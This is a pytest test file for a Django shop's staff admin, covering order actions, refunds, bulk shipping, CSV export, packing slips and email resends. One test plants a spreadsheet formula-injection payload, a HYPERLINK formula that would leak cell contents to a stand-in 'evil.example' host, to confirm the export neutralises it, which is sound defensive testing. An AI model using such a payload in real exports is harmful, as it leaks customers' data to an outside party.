"""The back office through the Django test client, as a staff member."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from django.utils import timezone

from checkout.models import Order, OutboxEmail
from checkout.services.orders import order_place
from checkout.services.payments import demo_payment_complete, payment_start
from tests import factories

pytestmark = pytest.mark.django_db

S = Order.Status


@pytest.fixture
def paid_order(settings, django_capture_on_commit_callbacks):
    settings.DEBUG = True
    settings.STRIPE_SECRET_KEY = ""
    variant = factories.variant(stock=5, price="40.00", name="Linen Apron")
    order = order_place(cart=factories.cart_with((variant, 2)), details=factories.details(),
                                 checkout_token="m" * 32)
    payment_start(order=order, success_url="http://t/s", cancel_url="http://t/c")
    with django_capture_on_commit_callbacks(execute=True):
        demo_payment_complete(session_id=f"demo_{order.number}", pay=True)
    settings.DEBUG = False
    order.refresh_from_db()
    return order


def _action(client, order, name, data=None):
    url = reverse("admin:checkout_order_action", args=[order.pk, name])
    return client.post(url, data or {}, follow=True)


def test_order_page_offers_the_actions_that_apply(admin_client, paid_order):
    html = admin_client.get(reverse("admin:checkout_order_change", args=[paid_order.pk])).content.decode()
    for label in ("Mark processing", "Ship", "Refund", "Cancel order", "Add note", "Resend receipt", "Packing slip"):
        assert label in html
    assert "Mark delivered" not in html
    assert "Payment" in html and "Linen Apron" in html  # payment and lines inline


def test_ship_from_the_order_page(admin_client, paid_order, mailoutbox, django_capture_on_commit_callbacks):
    form = admin_client.get(reverse("admin:checkout_order_action", args=[paid_order.pk, "ship"]))
    assert "Tracking number" in form.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = _action(admin_client, paid_order, "ship",
                           {"carrier": "UPS", "tracking_number": "1Z999", "tracking_url": "https://ups.example/1Z999"})
    assert "Ship: done" in response.content.decode()
    paid_order.refresh_from_db()
    assert paid_order.status == S.SHIPPED and paid_order.tracking_number == "1Z999"
    assert "1Z999" in mailoutbox[-1].body


def test_refund_more_than_paid_is_refused_in_the_admin(admin_client, paid_order):
    response = _action(admin_client, paid_order, "refund", {"amount": "100.00", "reason": "Too much"})
    assert "At most 80.00" in response.content.decode()
    response = _action(admin_client, paid_order, "refund", {"amount": "15.00", "reason": "Dented"})
    assert "Refund: done" in response.content.decode()
    paid_order.refresh_from_db()
    assert paid_order.amount_refunded == Decimal("15.00")


def test_an_action_that_does_not_apply_is_refused(admin_client, paid_order):
    response = _action(admin_client, paid_order, "delivered")
    assert "cannot go from Paid to Delivered" in response.content.decode()
    assert admin_client.get(reverse("admin:checkout_order_action", args=[paid_order.pk, "explode"])).status_code == 403


def test_notes_stay_internal(admin_client, client, paid_order):
    _action(admin_client, paid_order, "note", {"note": "Gift wrap requested by phone"})
    assert "Gift wrap" in admin_client.get(reverse("admin:checkout_order_change", args=[paid_order.pk])).content.decode()
    assert "Gift wrap" not in client.get(paid_order.get_absolute_url()).content.decode()


def test_bulk_processing_then_bulk_ship(admin_client, paid_order, mailoutbox, django_capture_on_commit_callbacks):
    changelist = reverse("admin:checkout_order_changelist")
    admin_client.post(changelist, {"action": "bulk_processing", "_selected_action": [paid_order.pk]})
    paid_order.refresh_from_db()
    assert paid_order.status == S.PROCESSING
    form = admin_client.post(changelist, {"action": "bulk_ship", "_selected_action": [paid_order.pk]})
    assert f"tracking_{paid_order.pk}" in form.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(changelist, {
            "action": "bulk_ship", "_selected_action": [paid_order.pk], "confirm": "yes", "carrier": "DHL",
            "tracking_url_template": "https://dhl.example/?n={number}", f"tracking_{paid_order.pk}": "JD77",
        })
    paid_order.refresh_from_db()
    assert paid_order.status == S.SHIPPED
    assert paid_order.tracking_url == "https://dhl.example/?n=JD77"


def test_csv_export_for_a_date_range(admin_client, paid_order):
    today = timezone.localdate().isoformat()
    response = admin_client.get(reverse("admin:checkout_order_export") + f"?start={today}&end={today}")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert len(rows) == 1
    assert rows[0]["number"] == paid_order.display_number and rows[0]["total"] == "80.00"
    assert rows[0]["items"] == "2"
    empty = admin_client.get(reverse("admin:checkout_order_export") + "?start=2001-01-01&end=2001-01-02")
    assert len(b"".join(empty.streaming_content).decode().strip().splitlines()) == 1
    bad = admin_client.get(reverse("admin:checkout_order_export") + f"?start={today}&end=2001-01-01")
    assert "start date is after" in bad.content.decode()


def test_csv_export_neutralises_formulas_a_shopper_typed(admin_client, paid_order):
    hostile = '=HYPERLINK("https://evil.example/?leak="&B2&F2,"Click")'
    Order.objects.filter(pk=paid_order.pk).update(full_name=hostile, email="@SUM(1+1)@example.com",
                                                  tracking_number="+1Z999", carrier="-2+3")
    normal = order_place(cart=factories.cart_with((factories.variant(stock=5, price="12.50"), 1)),
                         details=factories.details(full_name="Grace Hopper"), checkout_token="n" * 32)
    today = timezone.localdate().isoformat()
    response = admin_client.get(reverse("admin:checkout_order_export") + f"?start={today}&end={today}")
    rows = {row["number"]: row for row in csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))}
    bad = rows[paid_order.display_number]
    assert bad["full_name"] == "'" + hostile
    assert bad["email"] == "'@SUM(1+1)@example.com"
    assert bad["tracking_number"] == "'+1Z999" and bad["carrier"] == "'-2+3"
    assert bad["total"] == "80.00" and bad["items"] == "2"  # the shop's own numbers stay numbers
    good = rows[normal.display_number]
    assert good["full_name"] == "Grace Hopper" and good["email"] == "ada@example.com" and good["total"] == "12.50"


def test_packing_slip(admin_client, paid_order):
    html = admin_client.get(reverse("admin:checkout_order_packing_slip", args=[paid_order.pk])).content.decode()
    assert "Packing slip" in html and "Linen Apron" in html and paid_order.address_line1 in html
    assert "<script" not in html and "onclick" not in html


def test_dashboard_shows_sales_orders_to_ship_and_failed_emails(admin_client, paid_order):
    OutboxEmail.objects.filter(order=paid_order).update(status=OutboxEmail.Status.FAILED)
    html = admin_client.get(reverse("admin:index")).content.decode()
    assert "Sales today" in html and "$80.00" in html
    assert "Waiting to ship" in html and "?todo=ship" in html
    assert "Failed emails" in html and "status__exact=failed" in html
    listing = admin_client.get(reverse("admin:checkout_order_changelist") + "?todo=ship").content.decode()
    assert paid_order.display_number in listing
    assert admin_client.get(reverse("admin:checkout_outboxemail_changelist") + "?status__exact=failed").status_code == 200


def test_outbox_preview_and_resend(admin_client, paid_order, mailoutbox, django_capture_on_commit_callbacks):
    receipt = OutboxEmail.objects.get(order=paid_order, kind="receipt")
    preview = admin_client.get(reverse("admin:checkout_outboxemail_preview", args=[receipt.pk]))
    assert paid_order.display_number in preview.content.decode()
    assert "default-src 'none'" in preview["Content-Security-Policy"]
    sent_before = len(mailoutbox)
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(reverse("admin:checkout_outboxemail_changelist"),
                          {"action": "resend", "_selected_action": [receipt.pk]})
    assert len(mailoutbox) == sent_before + 1
    assert OutboxEmail.objects.filter(order=paid_order, kind="receipt").count() == 1


def test_a_stock_email_about_no_order_is_listed_shown_and_resent_by_staff(admin_client, mailoutbox,
                                                                            django_capture_on_commit_callbacks):
    from checkout.services.outbox import email_queue_message

    email = email_queue_message(kind=OutboxEmail.Kind.BACK_IN_STOCK, to="ada@example.com",
                                subject="Wool Throw is back in stock", text="It is back.", html="<p>It is back.</p>",
                                headers={"List-Unsubscribe": "<https://shop.example.com/alerts/unsubscribe/abc/>"})
    OutboxEmail.objects.filter(pk=email.pk).update(status=OutboxEmail.Status.FAILED, last_error="SMTPDataError")
    listing = admin_client.get(reverse("admin:checkout_outboxemail_changelist") + "?kind__exact=back_in_stock")
    assert "ada@example.com" in listing.content.decode() and "Back in stock" in listing.content.decode()
    page = admin_client.get(reverse("admin:checkout_outboxemail_change", args=[email.pk])).content.decode()
    assert "It is back." in page and "/alerts/unsubscribe/abc/" in page
    with django_capture_on_commit_callbacks(execute=True):
        admin_client.post(reverse("admin:checkout_outboxemail_changelist"),
                          {"action": "resend", "_selected_action": [email.pk]})
    [sent] = mailoutbox
    assert sent.to == ["ada@example.com"] and sent.extra_headers["List-Unsubscribe"].endswith("/abc/>")
    assert OutboxEmail.objects.get(pk=email.pk).status == OutboxEmail.Status.SENT


def test_non_staff_cannot_reach_order_actions(client, paid_order):
    shopper = factories.user()
    client.force_login(shopper)
    response = client.get(reverse("admin:checkout_order_action", args=[paid_order.pk, "ship"]))
    assert response.status_code in (302, 403)


def test_the_admin_index_has_no_two_sections_with_the_same_name(admin_client):
    response = admin_client.get(reverse("admin:index"))
    names = [app["name"] for app in response.context["app_list"]]
    assert len(names) == len(set(names)), names
    assert "Customers and staff" in names and "Accounts" in names  # ours, and allauth's email addresses


def test_the_order_list_shows_seven_short_columns(admin_client, paid_order):
    response = admin_client.get(reverse("admin:checkout_order_changelist"))
    headers = [str(h["text"]) for h in response.context["result_headers"]]
    assert [h.capitalize() for h in headers[1:]] == [
        "Number", "Placed", "Customer", "Status", "Payment state", "Total", "Needs review"]
    page = response.content.decode()
    assert paid_order.full_name in page and paid_order.email in page


@pytest.mark.parametrize("url_of", [
    lambda order: reverse("admin:checkout_order_action", args=[order.pk, "ship"]),
    lambda order: None,  # the bulk "Ship selected orders…" action's intermediate page
])
def test_the_ship_pages_use_the_admin_layout(admin_client, paid_order, url_of):
    url = url_of(paid_order)
    if url:
        response = admin_client.get(url)
    else:
        response = admin_client.post(reverse("admin:checkout_order_changelist"),
                                     {"action": "bulk_ship", "_selected_action": [paid_order.pk]})
    assert response.status_code == 200
    names = [t.name for t in response.templates]
    assert "admin/base_site.html" in names and "admin/base.html" in names
    page = response.content.decode()
    assert "admin/css/forms.css" in page  # the aligned form rows and the submit row are styled
    assert '<ol class="breadcrumbs">' in page and ">Orders</a>" in page
    assert 'class="submit-row"' in page and 'class="module aligned"' in page
